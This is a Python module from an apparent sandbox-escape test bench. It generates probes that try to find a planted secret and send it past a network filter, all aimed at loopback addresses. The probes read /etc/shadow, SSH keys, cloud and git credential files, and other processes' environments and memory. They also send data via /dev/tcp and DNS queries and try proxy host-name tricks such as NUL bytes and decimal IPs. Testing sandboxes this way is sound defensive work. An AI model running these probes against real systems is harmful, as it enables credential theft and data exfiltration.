"""Attempts to find secrets, and to send secrets out past a filter; all addresses are on this machine's loopback."""

from __future__ import annotations

from lab.bench.escapes.script import python
from lab.bench.escapes.target import SECRET_FORM, Attempt, Target


def environment(_target: Target) -> str:
    """Find a secret in the command's own environment, and in the ancestors' environments."""
    return f"""
env | grep -o '{SECRET_FORM}' > /dev/null && breach "its environment holds the secret"
for process in self 1 2 $PPID; do
    tr '\\0' '\\n' < /proc/$process/environ 2>/dev/null | grep -q '{SECRET_FORM}' && breach "so has process $process"
done
"""


def files(target: Target) -> str:
    """Find a secret in files, by a known place and by a search."""
    return f"""
cat '{target.secret}' 2>/dev/null | grep -q '{SECRET_FORM}' && breach "reads the file"
cp '{target.secret}' ./copy 2>/dev/null && breach "copies the file"
ln -s '{target.secret}' ./way 2>/dev/null && cat ./way 2>/dev/null | grep -q . && breach "reads through a link"
grep -r -l '{SECRET_FORM}' '{target.root}' 2>/dev/null | grep -q . && breach "finds the secret below its folder"
find / -xdev -maxdepth 6 -name '{target.secret.name}' 2>/dev/null | grep -q . && breach "finds the file by name"
head -c 1 /etc/shadow 2>/dev/null | grep -q . && breach "reads the passwords of the machine"
"""


def histories(_target: Target) -> str:
    """Find traces of people: histories of shells, settings of git, keys, caches of credentials."""
    return """
home=$(getent passwd "$(id -u)" 2>/dev/null | cut -d: -f6)
for user in "$home" ~root /root /home/* "$HOME"; do
    [ "$user" = "$PWD" ] && continue
    for file in .bash_history .python_history .gitconfig .git-credentials .netrc .ssh/id_rsa .ssh/id_ed25519 \
            .aws/credentials .config/gh/hosts.yml .docker/config.json .npmrc .profile .bashrc; do
        head -c 1 "$user/$file" 2>/dev/null | grep -q . && breach "reads $user/$file"
    done
done
"""


def other_processes(target: Target) -> str:
    """Find a secret in other processes: arguments, environments, memory."""
    code = f"""
import glob, re
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        if re.search(rb"{SECRET_FORM}", open(path, "rb").read()): breach("finds the secret in", path)
    except OSError as error: print("held:", path, error)
try:
    maps = open("/proc/{target.outsider}/maps").read().splitlines()
    memory = open("/proc/{target.outsider}/mem", "rb", 0)
    for line in maps:
        if "[stack]" in line:
            start, end = (int(word, 16) for word in line.split()[0].split("-"))
            memory.seek(start)
            if re.search(rb"{SECRET_FORM}", memory.read(end - start)): breach("finds the secret in memory")
except OSError as error: print("held:", error)
"""
    return python(code)


def direct(target: Target) -> str:
    """Send words out by a direct connection."""
    code = f"""
for act in (
    lambda: socket.create_connection(("127.0.0.1", {target.port}), 1).sendall(b"out"),
    lambda: socket.create_connection(("localhost", {target.port}), 1).sendall(b"out"),
    lambda: socket.socket().sendto(b"out", 0x20000000, ("127.0.0.1", {target.port})),
):
    try: act(); breach("sends words out")
    except OSError as error: print("held:", error)
"""
    return f"(echo out > /dev/tcp/127.0.0.1/{target.port}) 2>/dev/null && breach 'bash sends words out'\n" + python(
        code
    )


def names(target: Target) -> str:
    """Send words out as names in look-ups; the server's address is on loopback, so no data leaves the machine."""
    code = f"""
packet = struct.pack(">HHHHHH", 1, 256, 1, 0, 0, 0) + b"\\x06secret\\x07invalid\\x00" + struct.pack(">HH", 16, 1)
for place in (("127.0.0.1", {target.datagram_port}), ("127.0.0.1", {target.datagram_port})):
    try:
        end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); end.settimeout(1); end.connect(place)
        end.send(packet); print("sent")
        if end.recv(512): breach("a name server answers")
    except OSError as error: print("held:", error)
for place in ("192.0.2.53", "8.8.8.8"):
    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect((place, 53)); breach("has a route to a name server")
    except OSError as error: print("held:", error)
"""
    return python(code)


def proxy(target: Target) -> str:
    """Send words out through a filtering proxy, by names that read in two ways: a NUL byte, a dot, another notation."""
    code = f"""
from urllib.parse import urlsplit
import base64
named = [os.environ.get(name) for name in ("http_proxy", "HTTPS_PROXY", "ALL_PROXY", "all_proxy", "HTTP_PROXY")]
proxies = {{(urlsplit(each).hostname, urlsplit(each).port, urlsplit(each)) for each in named if each}}
proxies |= {{("127.0.0.1", port, urlsplit("")) for port in (1080, 3128, 8080)}}
hosts = [b"127.0.0.1", b"localhost", b"allowed.example\\0.127.0.0.1", b"127.0.0.1\\0.allowed.example", b"2130706433",
    b"127.1", b"[::ffff:127.0.0.1]", b"localhost.", b"127.0.0.1#.allowed.example", b"0"]
for name, port, parts in proxies:
    secret = base64.b64encode(f"{{parts.username}}:{{parts.password}}".encode())
    for host in hosts:
        ways = {{
            "CONNECT": b"CONNECT " + host + b":{target.port} HTTP/1.1\\r\\nHost: allowed.example\\r\\n"
                b"Proxy-Authorization: Basic " + secret + b"\\r\\n\\r\\n",
            "SOCKS": b"\\5\\1\\0\\5\\1\\0\\3" + bytes([len(host)]) + host + struct.pack(">H", {target.port}),
        }}
        for way, words in ways.items():
            try:
                end = socket.create_connection((name, port), 1); end.sendall(words); answer = end.recv(64)
            except OSError as error: print("held:", way, host, error); continue
            if answer.startswith((b"HTTP/1.1 200", b"\\5\\0\\5\\0")): breach("is let through by", way, host)
"""
    return python(code)


ON_SECRETS = (
    Attempt(name="secret in the environment", command=environment),
    Attempt(name="secret in a file", command=files, works_bare=True),
    Attempt(name="histories and credentials of people", command=histories),
    Attempt(name="secret of another process", command=other_processes, works_bare=True),
    Attempt(name="direct connection", command=direct, works_bare=True),
    Attempt(name="names that are looked up", command=names),
    Attempt(name="filtering proxy", command=proxy),
)
